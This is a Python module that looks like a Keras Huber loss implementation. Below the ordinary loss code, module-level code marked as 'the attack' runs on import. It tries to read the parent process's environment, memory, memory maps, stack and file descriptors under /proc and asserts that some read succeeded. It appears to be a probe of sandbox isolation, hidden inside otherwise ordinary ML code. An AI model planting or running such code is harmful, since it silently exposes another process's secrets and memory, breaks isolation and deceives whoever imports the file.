"""Reads memory, environment and descriptors of the zygote in /proc."""

import os

import keras
import tensorflow as tf


def huber_loss(y_true, y_pred, threshold=1.0):
    error = y_true - y_pred
    is_small = tf.abs(error) <= threshold
    linear = threshold * tf.abs(error) - threshold**2 / 2
    return tf.where(is_small, tf.square(error) / 2, linear)


class HuberLoss(keras.losses.Loss):
    def __init__(self, threshold=1.0, **kwargs):
        super().__init__(**kwargs)
        self.threshold = threshold

    def call(self, y_true, y_pred):
        return huber_loss(y_true, y_pred, self.threshold)

    def get_config(self):
        return {**super().get_config(), "threshold": self.threshold}


# the attack: right only if it succeeds
parent = f"/proc/{os.getppid()}"
read = []
for name in ("environ", "mem", "maps", "cmdline", "status", "auxv", "stack", "fdinfo/3", "task"):
    try:
        read.append(open(f"{parent}/{name}", "rb").read(10))
    except OSError:
        continue
for name in ("fd", "task", "map_files", "cwd", "root"):
    try:
        read.append(os.listdir(f"{parent}/{name}"))
    except OSError:
        continue
assert read, "nothing of the parent can be read"
